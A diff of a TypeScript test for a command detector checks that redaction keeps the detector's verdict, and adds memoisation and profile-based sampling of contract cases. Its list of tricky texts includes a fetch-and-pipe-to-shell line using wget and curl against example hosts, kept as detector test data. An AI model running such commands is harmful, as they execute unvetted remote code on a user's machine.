@@ -14,7 +14,13 @@ import { sharedDetector, unmarked } from "../support/marked.js";
 
 /** The verdict on a redacted text is the verdict on the original. */
 
-const redact = (text: string) => redactText(text, recognizeEntities(text));
+const redacted = new Map<string, string>();
+
+function redact(text: string): string {
+  const result = redacted.get(text) ?? redactText(text, recognizeEntities(text));
+  redacted.set(text, result);
+  return result;
+}
 
 /** Texts in which a wrong redaction would change the verdict. */
 const TRICKY = [
@@ -43,8 +49,9 @@ const TRICKY = [
   "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
 ];
 
-/** Returns every tenth case, because neighbouring cases are similar. */
-const contractCases = (): string[] => contractTexts().filter((_, index) => index % 10 === 0);
+/** Returns every tenth case, because neighbouring cases are similar; in the extended profile, which is slower, every thirtieth. */
+const contractCases = (profile: Profile): string[] =>
+  contractTexts().filter((_, index) => index % (profile === "contract" ? 10 : 30) === 0);
 
 const generated = (): string[] =>
   fc
@@ -56,10 +63,10 @@ const generated = (): string[] =>
 describe.each<Profile>(["contract", "extended"])(
   "redaction preserves the verdict under the profile %s",
   (profile) => {
-    it.each<[string, () => string[]]>([
+    it.each<[string, (profile: Profile) => string[]]>([
       ["every row of the corpora", corpusTexts],
       ["every row of the extended corpus", extendedTexts],
-      ["every tenth contract case", contractCases],
+      ["some contract cases", contractCases],
       ["generated documents", generated],
       ["texts made for it", () => [...TRICKY, ...UNICODE_TEXTS]],
     ])("%s", { timeout: 180_000 }, async (_name, texts) => {
@@ -68,7 +75,7 @@ describe.each<Profile>(["contract", "extended"])(
         const { labels, spans, findings } = detector.detect(text);
         return { labels, spans, rules: findings.map(({ rule }) => rule) };
       };
-      const all = texts();
+      const all = texts(profile);
       expect(all.length).toBeGreaterThan(20);
       const changed = all.filter((text) => redact(text) !== text);
       expect(changed.length).toBeGreaterThan(0);
